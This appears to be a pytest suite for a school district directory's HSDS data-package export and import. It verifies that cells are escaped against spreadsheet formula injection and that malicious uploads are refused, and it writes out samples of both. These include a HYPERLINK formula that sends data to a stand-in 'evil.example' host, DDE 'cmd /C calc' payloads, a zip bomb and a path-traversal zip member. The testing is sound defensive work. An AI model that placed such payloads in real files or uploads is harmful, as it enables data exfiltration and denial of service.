"""HSDS 3 interchange: export the directory as a tabular data package, import one with a
preview of every row's problems, and refuse broken or hostile uploads."""

from __future__ import annotations

import csv
import datetime
import io
import json
import os
import re
import uuid
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import TestCase
from django.urls import reverse

from core.csv import CellError
from partnerships.models import Contact, Partner, PartnerSchool, Service, ServiceCategory
from partnerships.services.directory import listing_token
from partnerships.services.hsds import _csv_bytes, hsds_export, hsds_import, hsds_plan, hsds_read
from partnerships.services.hsds_format import SPEC_PATH, Column, hsds_id
from partnerships.services.hsds_reader import HSDSFileError
from schools.models import School
from tests.factories import DistrictFactory, SchoolFactory
from tests.partnerships.directory_setup import make_partner, person, read, signed_in

pytestmark = pytest.mark.django_db

UTC = datetime.UTC


# --- A directory with everything in it ----------------------------------------------------------


@pytest.fixture
def full_directory(district):
    north = read(district, lambda: School.objects.get(district=district))
    east = SchoolFactory(district=district, name="East Middle School")
    read(
        district,
        lambda: ServiceCategory.objects.create(
            district=district, code="legal_aid", name="Legal aid"
        ),
    )
    make_partner(
        district,
        name="Harbor Counseling",
        kind="mental_health",
        description="Licensed therapists.\nTeens and families, “in person” or online.",
        website="https://harbor.example.org",
        email="hello@harbor.example.org",
        phone="555-0100",
        address="12 Main St",
        city="Springfield",
        state="IL",
        postal_code="62701",
        languages=["en", "es-mx", "vi"],
        delivery_modes=["telehealth", "on_site", "at_partner"],
        payments=["medicaid", "sliding_scale"],
        min_age=12,
        max_age=18,
        eligibility="Grades 6 to 12",
        intake="waitlist",
        capacity=4,
        last_verified_at=datetime.datetime(2025, 3, 4, 15, 30, 12, 345678, tzinfo=UTC),
        last_verified_by="Ana Ruiz",
        services=[("therapy", "Teen therapy"), ("crisis_intervention", ""), ("legal_aid", "")],
        schools=[north, east],
        contacts=[
            {
                "name": "Ana Ruiz",
                "title": "Intake lead",
                "email": "ana@harbor.example.org",
                "phone": "555-0101",
                "preferred_language": "es",
                "roles": ["intake", "leadership"],
                "reminders": True,
            },
            {"name": "Bo Chen", "roles": ["billing"]},
        ],
    )
    make_partner(district, name="Quiet Org")  # nothing but a name
    make_partner(
        district,
        name="Old Friends, Inc.",
        kind="faith_cultural",
        active=False,
        intake="closed",
        capacity=0,
        min_age=5,
        services=[("mentoring", 'Mentoring, "big sibling" style')],
        schools=[east],
    )
    return district


def snapshot(district) -> list[dict]:
    """Everything the directory says, without ids: what a round trip must reproduce."""

    def take():
        partners = []
        for partner in Partner.objects.filter(district=district).order_by("name"):
            fields = {
                name: getattr(partner, name)
                for name in [
                    "name",
                    "kind",
                    "description",
                    "website",
                    "email",
                    "phone",
                    "address",
                    "city",
                    "state",
                    "postal_code",
                    "languages",
                    "delivery_modes",
                    "payments",
                    "min_age",
                    "max_age",
                    "eligibility",
                    "intake",
                    "capacity",
                    "last_verified_at",
                    "last_verified_by",
                    "active",
                ]
            }
            fields["schools"] = sorted(
                PartnerSchool.objects.filter(partner=partner).values_list("school__name", flat=True)
            )
            fields["services"] = sorted(
                Service.objects.filter(partner=partner).values_list(
                    "category", "name", "description"
                )
            )
            fields["contacts"] = sorted(
                tuple(c)
                for c in Contact.objects.filter(partner=partner).values_list(
                    "name", "title", "email", "phone", "preferred_language", "roles", "reminders"
                )
            )
            partners.append(fields)
        categories = sorted(
            ServiceCategory.objects.filter(district=district).values_list("code", "name")
        )
        return {"partners": partners, "categories": categories}

    return read(district, take)


def export(district) -> bytes:
    return read(district, lambda: hsds_export(district))


def empty_district_like(district):
    """A district with the same schools and nothing in its directory."""
    target = DistrictFactory(slug="east", name="East County")
    for name in read(district, lambda: list(School.objects.values_list("name", flat=True))):
        SchoolFactory(district=target, name=name)
    return target


def import_into(district, data: bytes, role="coordinator"):
    by = person(district, role)
    return read(district, lambda: hsds_import(by=by, data=data))


# --- Export ---------------------------------------------------------------------------------------


def test_the_round_trip_into_an_empty_district_reproduces_the_directory_exactly(full_directory):
    target = empty_district_like(full_directory)

    plan = import_into(target, export(full_directory))

    assert plan.created == 3 and plan.updated == 0
    assert snapshot(target) == snapshot(full_directory)
    assert snapshot(target)["partners"][0]["last_verified_at"] == datetime.datetime(
        2025, 3, 4, 15, 30, 12, 345678, tzinfo=UTC
    )


def test_exporting_twice_gives_the_same_bytes_and_ids_derive_from_district_and_row(full_directory):
    first, second = export(full_directory), export(full_directory)

    assert first == second
    organizations = read_csv(first, "organizations.csv")
    harbor = read(full_directory, lambda: Partner.objects.get(name="Harbor Counseling"))
    assert hsds_id(full_directory.pk, "partner", harbor.pk) in [row["id"] for row in organizations]


def test_the_package_uses_the_specifications_files_columns_and_descriptor(full_directory):
    data = export(full_directory)
    archive = zipfile.ZipFile(io.BytesIO(data))
    descriptor = json.loads(archive.read("datapackage.json"))
    official = json.loads(SPEC_PATH.read_text())
    by_path = {r["path"]: r for r in official["resources"]}

    assert descriptor["profile"] == "tabular-data-package" and descriptor["version"] == "3.0.0"
    assert {r["path"] for r in descriptor["resources"]} | {"datapackage.json"} == set(
        archive.namelist()
    )
    for resource in descriptor["resources"]:
        assert resource == by_path[resource["path"]]  # the specification's own, unchanged
        header = next(csv.reader(io.StringIO(archive.read(resource["path"]).decode())))
        assert header == [f["name"] for f in resource["schema"]["fields"]], resource["path"]
    assert "service_at_location.csv" in archive.namelist()
    assert read_header(data, "organizations.csv")[:4] == [
        "id",
        "name",
        "alternate_name",
        "description",
    ]
    services = read_csv(data, "services.csv")
    assert {row["status"] for row in services} == {"active", "inactive"}
    teen = next(row for row in services if row["name"] == "Teen therapy")
    assert teen["fees_description"] == "Medicaid, Sliding scale"
    assert (teen["assured_date"], teen["assurer_email"]) == ("2025-03-04", "ana@harbor.example.org")
    options = {row["option"] for row in read_csv(data, "cost_options.csv")}
    assert options == {"Medicaid", "Sliding scale"}
    areas = {row["name"] for row in read_csv(data, "service_areas.csv")}
    assert areas == {"North High School", "East Middle School"}
    spoken = read_csv(data, "languages.csv")
    assert {row["code"] for row in spoken if row["service_id"] == teen["id"]} == {
        "en",
        "es-MX",
        "vi",
    }
    quiet = next(r for r in read_csv(data, "organizations.csv") if r["name"] == "Quiet Org")
    assert quiet["description"] == "Quiet Org"  # HSDS requires one; the import reads none


def test_services_carry_their_category_as_a_taxonomy_term(full_directory):
    data = export(full_directory)
    terms = {row["id"]: row for row in read_csv(data, "taxonomy_terms.csv")}
    services = {row["id"]: row for row in read_csv(data, "services.csv")}

    linked = [
        (services[row["link_id"]]["name"], terms[row["taxonomy_term_id"]]["code"])
        for row in read_csv(data, "attributes.csv")
        if row["link_entity"] == "service"
    ]

    assert ("Teen therapy", "therapy") in linked
    assert ("Crisis intervention", "crisis_intervention") in linked  # unnamed: the category's name
    assert ("Legal aid", "legal_aid") in linked
    assert terms[next(k for k, v in terms.items() if v["code"] == "legal_aid")]["taxonomy"] == (
        "Trellis service categories"
    )


def test_importing_our_own_export_again_updates_the_same_rows(full_directory):
    data = export(full_directory)
    before = snapshot(full_directory)
    service_ids = read(full_directory, lambda: sorted(Service.objects.values_list("pk", flat=True)))
    read(
        full_directory,
        lambda: Partner.objects.filter(name="Quiet Org").update(phone="999", description="changed"),
    )
    read(
        full_directory,
        lambda: Service.objects.create(
            district=full_directory,
            partner=Partner.objects.get(name="Quiet Org"),
            category="housing",
        ),
    )

    plan = import_into(full_directory, data)

    assert (plan.created, plan.updated) == (0, 3)
    assert snapshot(full_directory) == before
    assert read(full_directory, lambda: sorted(Service.objects.values_list("pk", flat=True))) == (
        service_ids
    )


def test_an_export_imported_into_another_district_does_not_match_its_partners(full_directory):
    target = empty_district_like(full_directory)
    import_into(target, export(full_directory))

    plan = read(target, lambda: hsds_plan(target, hsds_read(export(full_directory))))

    assert plan.created == 0 and plan.package.error_total == 3  # names already taken
    assert "already in the directory" in plan.package.errors[0].message


# --- Spreadsheet safety: text cannot run, typed cells stay their type, the guard comes off ----

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?d="&A1,"Harbor")'
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile_directory(full_directory):
    district = full_directory
    read(
        district,
        lambda: ServiceCategory.objects.create(district=district, code="hostile", name="@SUM(1)"),
    )
    make_partner(
        district,
        name=HOSTILE_NAME,
        description="@SUM(1+1)*cmd|' /C calc'!A0",
        email="=x@example.org",
        phone="+1 555 0100",
        address="-12 Main St",
        city="+Springfield",
        state="\tIL",
        postal_code="\r62701",
        languages=["es-mx"],
        delivery_modes=["at_partner"],
        min_age=12,
        eligibility="-2+3",
        last_verified_at=datetime.datetime(2025, 3, 4, 15, 30, tzinfo=UTC),
        last_verified_by="+cmd",
        services=[("hostile", ""), ("therapy", "=1+1")],
        contacts=[
            {
                "name": "\t=Tabbed",
                "title": "\r=1+1",
                "email": "-ana@example.org",
                "phone": "=1+2",
                "preferred_language": "es",
                "roles": ["intake"],
            }
        ],
    )
    return district


def every_cell(data: bytes):
    for name in zipfile.ZipFile(io.BytesIO(data)).namelist():
        if name.endswith(".csv"):
            for row in read_csv(data, name):
                for column, cell in row.items():
                    yield name, column, cell


def test_hostile_text_survives_the_round_trip_exactly(hostile_directory):
    target = empty_district_like(hostile_directory)

    plan = import_into(target, export(hostile_directory))

    assert plan.created == 4 and plan.package.error_total == 0
    assert snapshot(target) == snapshot(hostile_directory)
    hostile = read(target, lambda: Partner.objects.get(name=HOSTILE_NAME))
    assert (hostile.phone, hostile.state) == ("+1 555 0100", "\tIL")


def test_no_exported_cell_runs_in_a_spreadsheet_and_typed_cells_are_unchanged(hostile_directory):
    data = export(hostile_directory)

    for name, column, cell in every_cell(data):
        if (name, column, cell) != ("phones.csv", "number", "+1 555 0100"):
            assert not cell.startswith(TRIGGERS), (name, column, cell)
    organizations = read_csv(data, "organizations.csv")
    assert {"'" + HOSTILE_NAME, "Harbor Counseling"} <= {row["name"] for row in organizations}
    hostile = next(row for row in organizations if row["name"] == "'" + HOSTILE_NAME)
    assert hostile["description"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert hostile["email"] == "'=x@example.org"
    phones = {row["number"] for row in read_csv(data, "phones.csv")}
    assert {"+1 555 0100", "'=1+2", "555-0100"} <= phones  # a phone number as it is
    services = read_csv(data, "services.csv")
    assert {"'=1+1", "'@SUM(1)"} <= {row["name"] for row in services}
    assert {(row["minimum_age"], row["assured_date"]) for row in services} >= {("12", "2025-03-04")}
    assert all(row["id"] == str(uuid.UUID(row["id"])) for row in services)


def test_a_number_column_keeps_a_negative_longitude_and_refuses_a_formula():
    columns = [Column("id", format="uuid"), Column("longitude", type="number"), Column("name")]
    location = hsds_id(1, "location", 1)

    data = _csv_bytes(columns, [{"id": location, "longitude": "-71.06", "name": "-West"}])

    assert list(csv.reader(io.StringIO(data.decode()))) == [
        ["id", "longitude", "name"],
        [location, "-71.06", "'-West"],
    ]
    with pytest.raises(CellError):
        _csv_bytes(columns, [{"id": location, "longitude": "=1+1", "name": ""}])
    with pytest.raises(CellError):
        _csv_bytes(columns, [{"id": "=1+1", "longitude": "", "name": ""}])


def test_a_formula_planted_through_the_listing_link_exports_as_text(client, district):
    harbor = make_partner(
        district,
        name="Harbor Counseling",
        contacts=[{"name": "Ana Ruiz", "email": "ana@harbor.example.org"}],
    )
    ana = read(district, lambda: Contact.objects.get(partner=harbor))
    link = reverse("listing_verify", args=[listing_token(harbor, ana)])

    response = client.post(
        link,
        {
            "verifier_name": "=cmd|' /C calc'!A0",
            "description": HOSTILE_NAME,
            "phone": "+1 555 0100",
            "city": "-Springfield",
            "eligibility": "@SUM(1+1)",
            "intake": "accepting",
        },
    )

    assert response.status_code == 200
    data = export(district)
    for name, column, cell in every_cell(data):
        if (name, column, cell) != ("phones.csv", "number", "+1 555 0100"):
            assert not cell.startswith(TRIGGERS), (name, column, cell)
    assert read_csv(data, "organizations.csv")[0]["description"] == "'" + HOSTILE_NAME
    assert read_csv(data, "phones.csv")[0]["number"] == "+1 555 0100"
    values = {row["value"] for row in read_csv(data, "attributes.csv")}
    # A city without a street is no HSDS address: it is an attribute of the organization.
    assert {"'=cmd|' /C calc'!A0", "'@SUM(1+1)", "'-Springfield"} <= values
    target = empty_district_like(district)
    import_into(target, data)
    assert snapshot(target) == snapshot(district)


# --- A foreign package (a 211 directory) ---------------------------------------------------------


def make_zip(files: dict, compression=zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, content in files.items():
            archive.writestr(name, content if isinstance(content, bytes) else content.encode())
    return buffer.getvalue()


def table(*rows) -> str:
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    return out.getvalue()


def foreign_package(**overrides) -> dict:
    files = {
        "organizations.csv": table(
            ["id", "name", "alternate_name", "description", "email", "website", "tax_id"],
            [
                "org-1",
                "County Food Bank",
                "CFB",
                "Groceries for families",
                "info@cfb.org",
                "www.cfb.org",
                "12",
            ],
            ["org-2", "Youth Shelter", "", "Emergency housing", "", "", ""],
        ),
        "services.csv": table(
            [
                "id",
                "organization_id",
                "name",
                "description",
                "status",
                "minimum_age",
                "maximum_age",
            ],
            ["svc-1", "org-1", "Weekend bags", "Food every Friday", "active", "5", "18"],
            ["svc-2", "org-2", "Shelter beds", "", "active", "", ""],
        ),
        "locations.csv": table(
            ["id", "organization_id", "name", "location_type"],
            ["loc-1", "org-1", "Warehouse", "physical"],
        ),
        "addresses.csv": table(
            [
                "id",
                "location_id",
                "address_1",
                "address_2",
                "city",
                "state_province",
                "postal_code",
                "country",
                "address_type",
            ],
            [
                "adr-1",
                "loc-1",
                "1 Dock Rd",
                "Unit 4",
                "Springfield",
                "IL",
                "62702",
                "US",
                "physical",
            ],
        ),
        "phones.csv": table(
            ["id", "location_id", "service_id", "organization_id", "contact_id", "number"],
            ["ph-1", "loc-1", "", "", "", "555-0200"],
            ["ph-2", "", "", "", "ct-1", "555-0201"],
        ),
        "contacts.csv": table(
            ["id", "organization_id", "service_id", "name", "title", "email"],
            ["ct-1", "", "svc-2", "Dee Jones", "Director", "dee@shelter.org"],
        ),
        "languages.csv": table(
            ["id", "service_id", "location_id", "name", "code"],
            ["ln-1", "svc-1", "", "Spanish", "es"],
            ["ln-2", "", "loc-1", "", "vi"],
        ),
        "schedules.csv": table(["id", "service_id", "byday"], ["sc-1", "svc-1", "FR"]),
        "taxonomy_terms.csv": table(
            ["id", "code", "name", "description", "taxonomy"],
            ["t-1", "BD-1800", "Food Pantries", "AIRS", "AIRS"],
            ["t-2", "housing", "Housing", "Our code", "Local"],
        ),
        "attributes.csv": table(
            ["id", "link_id", "taxonomy_term_id", "link_entity", "value"],
            ["at-1", "svc-1", "t-1", "service", ""],
            ["at-2", "svc-2", "t-2", "service", ""],
        ),
    }
    files.update(overrides)
    return {k: v for k, v in files.items() if v is not None}


def test_a_foreign_package_creates_new_partners_with_what_maps(district):
    plan = import_into(district, make_zip(foreign_package()))

    assert (plan.created, plan.updated, plan.package.error_total) == (2, 0, 0)
    food = read(district, lambda: Partner.objects.get(name="County Food Bank"))
    assert food.website == "https://www.cfb.org" and food.email == "info@cfb.org"
    assert (food.address, food.city, food.state, food.postal_code) == (
        "1 Dock Rd, Unit 4",
        "Springfield",
        "IL",
        "62702",
    )
    assert food.phone == "555-0200" and food.languages == ["es", "vi"]
    assert (food.min_age, food.max_age, food.kind, food.intake) == (5, 18, "other", "accepting")
    services = read(
        district, lambda: list(Service.objects.values_list("partner__name", "category", "name"))
    )
    assert sorted(services) == [
        ("County Food Bank", "other", "Weekend bags"),  # an AIRS code is not one of ours
        ("Youth Shelter", "housing", "Shelter beds"),
    ]
    dee = read(district, lambda: Contact.objects.select_related("partner").get())
    assert (dee.name, dee.title, dee.phone, dee.partner.name) == (
        "Dee Jones",
        "Director",
        "555-0201",
        "Youth Shelter",
    )
    assert "schedules.csv" in plan.package.not_used
    assert "organizations.csv: alternate_name, tax_id" in plan.package.not_used


# --- Row problems: listed in the preview, those rows left out ------------------------------------


@pytest.mark.parametrize(
    ("overrides", "file", "column", "words"),
    [
        (
            {"services.csv": table(["id", "organization_id", "name"], ["svc-1", "org-404", "X"])},
            "services.csv",
            "organization_id",
            "No row of organizations.csv has the id “org-404”",
        ),
        (
            {
                "services.csv": table(
                    ["id", "organization_id", "name", "status"], ["s", "org-1", "X", "open"]
                )
            },
            "services.csv",
            "status",
            "“open” is not active, inactive, defunct or temporarily closed",
        ),
        (
            {
                "services.csv": table(
                    ["id", "organization_id", "name", "minimum_age"], ["s", "org-1", "X", "ten"]
                )
            },
            "services.csv",
            "minimum_age",
            "“ten” is not an age",
        ),
        (
            {
                "contacts.csv": table(
                    ["id", "organization_id", "name", "email"], ["c", "org-1", "Al", "al@"]
                )
            },
            "contacts.csv",
            "email",
            "“al@” is not an email address",
        ),
        (
            {"phones.csv": table(["id", "contact_id", "number"], ["p", "nobody", "555"])},
            "phones.csv",
            "contact_id",
            "No row of contacts.csv has the id “nobody”",
        ),
        (
            {
                "attributes.csv": table(
                    ["id", "link_id", "taxonomy_term_id", "link_entity"],
                    ["a", "svc-1", "t-404", "service"],
                )
            },
            "attributes.csv",
            "taxonomy_term_id",
            "No row of taxonomy_terms.csv has the id “t-404”",
        ),
        (
            {
                "services.csv": table(
                    ["id", "organization_id", "name"], ["s", "org-1", "X"], ["s", "org-2", "Y"]
                )
            },
            "services.csv",
            "id",
            "The id “s” is used twice",
        ),
        (
            {
                "services.csv": table(
                    ["id", "organization_id", "name"], ["s", "org-1", "X", "extra"]
                )
            },
            "services.csv",
            "",
            "This row has 4 values",
        ),
    ],
)
def test_row_problems_are_listed_with_file_line_and_column(
    district, overrides, file, column, words
):
    package = hsds_read(make_zip(foreign_package(**overrides)))

    problems = [(p.file, p.row, p.column, p.message) for p in package.errors]
    assert any(
        f == file and c == column and words in m and isinstance(r, int) for f, r, c, m in problems
    ), problems


def test_a_bad_organization_row_leaves_out_its_services_and_contacts_too(district):
    files = foreign_package(
        **{
            "organizations.csv": table(
                ["id", "name", "email"],
                ["org-1", "County Food Bank", "bad@"],
                ["org-2", "Youth Shelter", ""],
            )
        }
    )

    plan = import_into(district, make_zip(files))

    messages = [p.message for p in plan.package.errors]
    assert any("not an email address" in m for m in messages)
    assert any("has errors: left out with it" in m for m in messages)
    assert read(district, lambda: list(Partner.objects.values_list("name", flat=True))) == [
        "Youth Shelter"
    ]
    assert (
        read(district, lambda: Service.objects.filter(partner__name="Youth Shelter").count()) == 1
    )


def test_the_preview_names_a_school_the_district_does_not_have(full_directory):
    target = DistrictFactory(slug="west", name="West")  # no schools at all

    plan = read(target, lambda: hsds_plan(target, hsds_read(export(full_directory))))

    assert any("East Middle School" in w.message for w in plan.package.warnings)
    assert plan.created == 3


# --- Whole-file problems: a clear message, nothing read, nothing written --------------------------


def zip_bomb() -> bytes:
    return make_zip(
        {
            "organizations.csv": "id,name\n" + "0" * (60 * 1024 * 1024),
            "services.csv": "id,organization_id,name\n",
        }
    )


@pytest.mark.parametrize(
    ("data", "words"),
    [
        (b"id,name\nx,y\n", "This is not a zip file"),
        (os.urandom(4096), "This is not a zip file"),
        (b"PK\x03\x04" + os.urandom(2000), "This is not a zip file"),
        (make_zip(foreign_package(**{"organizations.csv": None})), "has no organizations.csv"),
        (
            make_zip(
                foreign_package(**{"organizations.csv": table(["org_id", "title"], ["1", "A"])})
            ),
            "organizations.csv has no id, name column",
        ),
        (
            make_zip(foreign_package(**{"services.csv": table(["id", "name"], ["1", "A"])})),
            "services.csv has no organization_id column",
        ),
        (make_zip(foreign_package(**{"organizations.csv": ""})), "organizations.csv is empty"),
        (
            make_zip(foreign_package(**{"organizations.csv": "id,name,id\n1,a,2\n"})),
            "names the column id more than once",
        ),
        (
            make_zip(
                foreign_package(**{"organizations.csv": "id,name\n1,caf\xe9\n".encode("latin-1")})
            ),
            "is not saved as UTF-8",
        ),
        (
            make_zip(foreign_package(**{"organizations.csv": b"id,name\n\x00\x01\x02"})),
            "not a text file",
        ),
        (
            make_zip({**foreign_package(), "data/organizations.csv": "id,name\n"}),
            "folder or a path",
        ),
        (make_zip({**foreign_package(), "../evil.csv": "x"}), "folder or a path"),
        (
            make_zip({**foreign_package(), "datapackage.json": "{not json"}),
            "datapackage.json is not",
        ),
        (zip_bomb(), "unpacks to far more than it holds"),
    ],
)
def test_a_broken_or_hostile_package_is_refused_with_a_clear_message(district, data, words):
    with pytest.raises(HSDSFileError) as refused:
        hsds_read(data)

    assert words in refused.value.message


def test_too_many_members_are_refused_before_anything_is_read(district):
    files = foreign_package()
    for index in range(40):
        files[f"x{index}.csv"] = "a"
    data = make_zip(files)

    with pytest.raises(HSDSFileError) as refused:
        hsds_read(data)

    assert "at most 40" in refused.value.message


def test_a_file_of_more_rows_than_the_cap_is_refused_whole(monkeypatch):
    from partnerships.services import hsds_reader

    monkeypatch.setattr(hsds_reader, "MAX_ROWS", 3)
    rows = [[f"org-{n}", f"Partner {n}"] for n in range(4)]
    at_cap = foreign_package(**{"organizations.csv": table(["id", "name"], *rows[:3])})
    hsds_read(make_zip(at_cap))  # three rows: read

    over = foreign_package(**{"organizations.csv": table(["id", "name"], *rows)})
    with pytest.raises(HSDSFileError) as refused:
        hsds_read(make_zip(over))
    assert "organizations.csv has more than 3 rows" in refused.value.message


def test_a_zip_bomb_is_refused_before_anything_is_decompressed(monkeypatch):
    data = zip_bomb()
    assert len(data) < 200_000  # 60 MB of zeros, deflated
    opened = []
    monkeypatch.setattr(zipfile.ZipFile, "open", lambda *a, **k: opened.append(a) or 1 / 0)

    with pytest.raises(HSDSFileError):
        hsds_read(data)

    assert opened == []


# --- Through the pages -----------------------------------------------------------------------


@pytest.fixture
def private_cache(settings):
    """Previews wait in the cache: keep them in this process, away from the shared Redis
    (other suites flush it between their tests)."""
    settings.CACHES = {
        "default": {"BACKEND": "django.core.cache.backends.locmem.LocMemCache", "LOCATION": "hsds"}
    }


def upload(client, district, data: bytes, name="directory.zip"):
    return client.post(
        reverse("partner_import", args=[district.slug]),
        {"file": SimpleUploadedFile(name, data, content_type="application/zip")},
    )


def test_upload_shows_a_preview_then_confirm_imports_everything_at_once(
    client, district, private_cache
):
    signed_in(client, person(district, "coordinator"))
    files = foreign_package(
        **{
            "services.csv": table(
                ["id", "organization_id", "name"],
                ["svc-1", "org-1", "Bags"],
                ["svc-9", "org-9", "Lost"],
            )
        }
    )

    preview = upload(client, district, make_zip(files))

    html = preview.content.decode()
    assert preview.status_code == 200 and "Check the import" in html
    assert "No row of organizations.csv has the id “org-9”" in html
    assert read(district, lambda: Partner.objects.count()) == 0  # nothing until confirmed
    key = preview.context["key"]

    confirmed = client.post(reverse("partner_import_confirm", args=[district.slug]), {"key": key})

    assert confirmed.status_code == 302
    assert read(district, lambda: sorted(Partner.objects.values_list("name", flat=True))) == [
        "County Food Bank",
        "Youth Shelter",
    ]
    assert read(district, lambda: list(Service.objects.values_list("name", flat=True))) == ["Bags"]
    again = client.post(reverse("partner_import_confirm", args=[district.slug]), {"key": key})
    assert again.status_code == 302
    assert read(district, lambda: Partner.objects.count()) == 2  # a preview is used once


@pytest.mark.parametrize(
    ("data", "words"),
    [
        (b"not a zip at all", "This is not a zip file"),
        (os.urandom(10_000), "This is not a zip file"),
        (make_zip(foreign_package(**{"organizations.csv": None})), "has no organizations.csv"),
        (zip_bomb(), "unpacks to far more than it holds"),
    ],
)
def test_a_refused_upload_says_why_next_to_the_file_field_and_writes_nothing(
    client, district, data, words
):
    signed_in(client, person(district, "coordinator"))

    response = upload(client, district, data)

    assert response.status_code == 200
    assert words in str(response.context["form"].errors["file"])
    assert read(district, lambda: Partner.objects.count()) == 0


def test_an_upload_over_the_size_cap_is_refused(client, district, monkeypatch):
    from partnerships.views import directory

    monkeypatch.setattr(directory, "MAX_UPLOAD_BYTES", 1000)
    signed_in(client, person(district, "coordinator"))

    response = upload(client, district, os.urandom(5000))

    assert "larger than" in str(response.context["form"].errors["file"])


def test_an_unknown_or_someone_elses_preview_key_imports_nothing(client, district, private_cache):
    owner = person(district, "coordinator")
    signed_in(client, owner)
    key = upload(client, district, make_zip(foreign_package())).context["key"]
    signed_in(client, person(district, "coordinator"))

    for attempt in (key, "x" * 20, "../../etc", ""):
        response = client.post(
            reverse("partner_import_confirm", args=[district.slug]), {"key": attempt}
        )
        assert response.status_code == 302

    assert read(district, lambda: Partner.objects.count()) == 0


def export_through_the_pages(client, district):
    """Ask for the export, follow its progress page to the download (the task runs once the
    request commits, at once in tests); the download's response."""
    with TestCase.captureOnCommitCallbacks(execute=True):
        asked = client.post(reverse("partner_export", args=[district.slug]))
    assert asked.status_code == 302
    progress = client.get(asked["Location"]).content.decode()
    link = re.search(r'href="([^"]+/download/)"', progress)
    assert link, progress
    return client.get(link.group(1))


def test_counselors_may_export_but_not_import(client, district, full_directory):
    signed_in(client, person(district, "counselor"))

    exported = export_through_the_pages(client, district)

    assert exported.status_code == 200 and exported["Content-Type"] == "application/zip"
    assert "attachment" in exported["Content-Disposition"]
    assert zipfile.ZipFile(io.BytesIO(exported.content)).testzip() is None
    assert client.get(reverse("partner_import", args=[district.slug])).status_code == 403
    assert upload(client, district, make_zip(foreign_package())).status_code == 403


def test_partners_cannot_export_and_other_districts_get_404(client, district, other_district):
    signed_in(client, person(district, "partner"))
    assert client.get(reverse("partner_export", args=[district.slug])).status_code == 403
    assert client.post(reverse("partner_export", args=[district.slug])).status_code == 403

    signed_in(client, person(other_district, "coordinator"))
    assert client.get(reverse("partner_export", args=[district.slug])).status_code == 404
    assert upload(client, district, make_zip(foreign_package())).status_code == 404


def test_an_export_holds_only_the_districts_own_partners(client, district, other_district):
    make_partner(district, name="Ours")
    make_partner(other_district, name="Theirs")
    signed_in(client, person(district, "viewer"))

    data = export_through_the_pages(client, district).content

    assert [row["name"] for row in read_csv(data, "organizations.csv")] == ["Ours"]


# --- helpers ------------------------------------------------------------------------------------


def read_csv(data: bytes, name: str) -> list[dict]:
    text = zipfile.ZipFile(io.BytesIO(data)).read(name).decode("utf-8")
    return list(csv.DictReader(io.StringIO(text)))


def read_header(data: bytes, name: str) -> list[str]:
    text = zipfile.ZipFile(io.BytesIO(data)).read(name).decode("utf-8")
    return next(csv.reader(io.StringIO(text)))
